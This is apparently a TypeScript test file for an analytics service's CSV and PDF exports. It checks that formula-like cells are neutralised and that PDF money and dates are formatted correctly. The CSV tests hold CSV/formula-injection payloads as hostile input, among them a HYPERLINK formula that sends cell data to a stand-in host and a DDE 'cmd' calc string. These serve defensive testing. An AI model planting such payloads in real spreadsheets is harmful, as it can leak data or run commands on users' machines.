import { afterAll, beforeAll, describe, expect, it } from 'bun:test'
import Papa from 'papaparse'
import { migrations } from '../../schema/analytics/migrations.ts'
import { type TransactionEvent, topics } from '../../schema/events.ts'
import { api } from '../../test/support/client.ts'
import { newId } from '../kernel/ids.ts'
import { createTestKit, type TestKit } from '../kernel/testing.ts'
import { subscribeTransactions } from './consumers.ts'
import { neutraliseCell, unparsePage } from './csv.ts'
import type { CustomerView } from './customers.ts'
import { exportPdf, filterLines, type ReportFilters } from './export-pdf.ts'
import { createAnalyticsApp } from './routes.ts'

describe('CSV pages', () => {
  it('writes exactly what Papa.unparse writes for the neutralised cells, quoting included', () => {
    const rows = [
      ['txn_1', '2026-01-01T00:00:00.000Z', 12.5, 'in', 'Ann, Ltd', null, 'say "hi"', 'R1', null],
      ['txn_2', '2026-01-01T00:00:00.000Z', 0.01, 'out', ' lead', 'tail ', 'line\nbreak', '', 3],
      ['txn_3', '2026-01-01T00:00:00.000Z', 100, 'in', '=SUM(A1)', '+2547', 'plain', 'R3', 0.9],
      ['txn_4', '2026-01-01T00:00:00.000Z', 7, 'in', 'cr\r', '\ufeffbom', 'ok', undefined, true],
      ['txn_5', '2026-01-01T00:00:00.000Z', -500, 'out', '@SUM(1)', '-2+3', '\tx', '\rx', -1],
    ]
    expect(unparsePage(rows)).toBe(
      `${Papa.unparse(
        rows.map((r) => r.map(neutraliseCell)),
        { header: false },
      )}\r\n`,
    )
  })

  it('matches Papa.unparse on random cells built from every character the fast path tests', () => {
    const alphabet = [
      ' ',
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      '"',
      ',',
      '\ufeff',
      '\uff1d',
      '\uff0b',
      '\uff0d',
      '\uff20',
      'a',
      'Z',
      '1',
      '.',
      'e',
      "'",
      'é',
    ]
    let seed = 7
    const pick = (n: number) => {
      seed = (seed * 16_807) % 2_147_483_647
      return seed % n
    }
    const cell = (): unknown => {
      const kind = pick(6)
      if (kind === 0) return null
      if (kind === 1) return pick(100_000) / 100 - 300
      let text = ''
      for (let i = pick(6); i >= 0; i--) text += alphabet[pick(alphabet.length)]
      return text
    }
    const rows = Array.from({ length: 3000 }, () => Array.from({ length: 6 }, cell))
    expect(unparsePage(rows)).toBe(
      `${Papa.unparse(
        rows.map((r) => r.map(neutraliseCell)),
        { header: false },
      )}\r\n`,
    )
  })

  it('neutralises text a spreadsheet would run, and keeps numbers and plain numeric text', () => {
    for (const text of [
      '=HYPERLINK("http://evil","x")',
      '+cmd',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '  =1+1',
      '\uff1d1+1',
    ])
      expect(neutraliseCell(text)).toBe(`'${text}`)
    for (const kept of [-500, -500.25, 0, '-500.00', '+254712345678', '1e5', 'Ann', '', null])
      expect(neutraliseCell(kept)).toBe(kept)
  })
})

describe('CSV export read back', () => {
  let kit: TestKit
  let app: ReturnType<typeof createAnalyticsApp>
  const base: TransactionEvent = {
    transaction_id: 't',
    occurred_at: '2026-03-10T10:00:00Z',
    amount: 500,
    direction: 'out',
    counterparty_name: 'Ann',
    counterparty_phone: '254700000001',
    description: 'rent',
    receipt_number: 'R1',
    balance: -500,
    source: 'api',
    user_id: 'usr_a',
    category: 'Rent',
    category_confidence: 0.9,
    category_source: 'rule',
    rule_id: null,
  }
  const hostile: Record<string, Partial<TransactionEvent>> = {
    t1: { counterparty_name: '=HYPERLINK("http://evil.test/?"&A1,"Click")' },
    t2: { counterparty_name: "@SUM(1+1)*cmd|' /C calc'!A0", description: '+1+1' },
    t3: { counterparty_name: '-2+3', description: '\t=1', receipt_number: '\r=2' },
    t4: { counterparty_name: 'Plain', counterparty_phone: '+254700000004', amount: 1234.5 },
  }

  beforeAll(async () => {
    kit = await createTestKit('analytics', { migrations })
    kit.ctx.clock.set('2026-03-29T12:00:00Z')
    app = createAnalyticsApp(kit.ctx)
    await subscribeTransactions(kit.ctx)
    await kit.bus.publish(topics.transactionsCategorized, {
      id: newId('evt'),
      type: topics.transactionsCategorized,
      version: 1,
      tenant_id: 'acme',
      occurred_at: new Date().toISOString(),
      data: {
        transactions: Object.entries(hostile).map(([id, over]) => ({
          ...base,
          transaction_id: id,
          ...over,
        })),
      },
    })
  })
  afterAll(() => kit.cleanup())

  it('reads back with papaparse as quoted text for formula cells and real numbers for amounts', async () => {
    const res = await api(app, await kit.authFor({ tenantId: 'acme', role: 'Analyst' })).get(
      '/api/v1/analytics/export?format=csv',
    )
    expect(res.status).toBe(200)
    const parsed = Papa.parse<Record<string, unknown>>(res.body as string, {
      header: true,
      skipEmptyLines: true,
      dynamicTyping: true,
    })
    expect(parsed.errors).toEqual([])
    const byId = new Map(parsed.data.map((r) => [r.id as string, r]))
    const { t1, t2, t3, t4 } = Object.fromEntries(
      Object.keys(hostile).map((id) => [id, byId.get(id)!]),
    ) as Record<string, Record<string, unknown>>
    expect(t1).toMatchObject({
      counterparty_name: `'${hostile.t1!.counterparty_name}`,
      amount: 500,
      // A negative balance is a real number, not neutralised text.
      balance: -500,
    })
    expect(t2).toMatchObject({
      counterparty_name: `'${hostile.t2!.counterparty_name}`,
      description: "'+1+1",
    })
    expect(t3).toMatchObject({
      counterparty_name: "'-2+3",
      description: "'\t=1",
      receipt_number: "'\r=2",
    })
    expect(t4).toMatchObject({ counterparty_name: 'Plain', amount: 1234.5 })
    // Text that is only a number cannot run: an international phone number stays as stored.
    expect(t4!.counterparty_phone).toBe('+254700000004')
    for (const row of parsed.data) {
      expect(typeof row.amount).toBe('number')
      for (const v of Object.values(row))
        if (typeof v === 'string' && !/^[+-]?\d+(\.\d+)?$/.test(v))
          expect(v).not.toMatch(/^[=+\-@\t\r]/)
    }
  })
})

describe('the PDF report', () => {
  const customer = (over: Partial<CustomerView>): CustomerView => ({
    counterparty: 'FAITH CHEPKOECH',
    counterparty_name: 'FAITH CHEPKOECH',
    counterparty_phone: null,
    count: 3,
    total: 1234,
    total_in: 1234,
    total_out: 0,
    first_seen: '2026-11-01T09:00:00.000Z',
    last_seen: '2026-11-22T09:00:00.000Z',
    segment: 'at_risk',
    rfm: null,
    ...over,
  })
  const report = (filters: ReportFilters) =>
    new TextDecoder('latin1').decode(
      exportPdf({
        tenantId: 'duka',
        generatedAt: '2026-11-23T10:00:00.000Z',
        from: '2026-11-01',
        to: '2026-11-22',
        filters,
        summary: {
          total_transactions: 1200,
          total_amount: 1_234_567.5,
          average_transaction: 1028.81,
          active_days: 22,
          total_in: 1_000_000,
          total_out: 234_567.5,
          revenue: 900_000,
          expenses: 200_000,
          net: 700_000,
          balance_change: 765_432.5,
          by_kind: {
            customer_payment: { count: 1000, amount_in: 900_000, amount_out: 0 },
            loan_drawn: { count: 10, amount_in: 100_000, amount_out: 0 },
          },
        },
        customers: [customer({})],
        months: [{ period: '2026-11', total_in: 1_000_000, total_out: 234_567.5 } as never],
        withSegments: true,
      }),
    )

  it('writes money as KES 1,234.00 and days as 22 Nov 2026', () => {
    const text = report({ direction: 'in' })
    expect(text).toContain('Money in: KES 1,000,000.00')
    expect(text).toContain('Money out: KES 234,567.50')
    expect(text).toContain('Revenue: KES 900,000.00')
    expect(text).toContain('Net \\(revenue - expenses\\): KES 700,000.00')
    expect(text).toContain('Loan drawn \\(Fuliza, overdraft\\): KES 100,000.00 / KES 0.00')
    expect(text).toContain('(KES 1,234.00)')
    expect(text).toContain('(22 Nov 2026)')
    expect(text).toContain('Generated: 23 Nov 2026')
    expect(text).toContain('Period: 1 Nov 2026 to 22 Nov 2026')
    expect(text).toContain('(Nov 2026)')
    expect(text).not.toMatch(/\d{4}-\d{2}-\d{2}|\(\d+\.\d{2}\)/)
  })

  it('states its filters and names its top list after them', () => {
    const text = report({ direction: 'out', category: 'Rent', min_amount: 500, q: 'shop' })
    expect(text).toContain('Direction: money out')
    expect(text).toContain('Category: Rent')
    expect(text).toContain('Top suppliers \\(you paid\\), Rent')
    expect(text).toContain(
      'Not applied here \\(CSV export only\\): amount from KES 500.00, text "shop"',
    )
    expect(filterLines({ from: undefined, to: undefined, filters: {} })).toEqual([
      'Period: from the first transaction to today  ·  Direction: in and out  ·  Category: all  ·  Transactions: the whole business',
    ])
  })
})
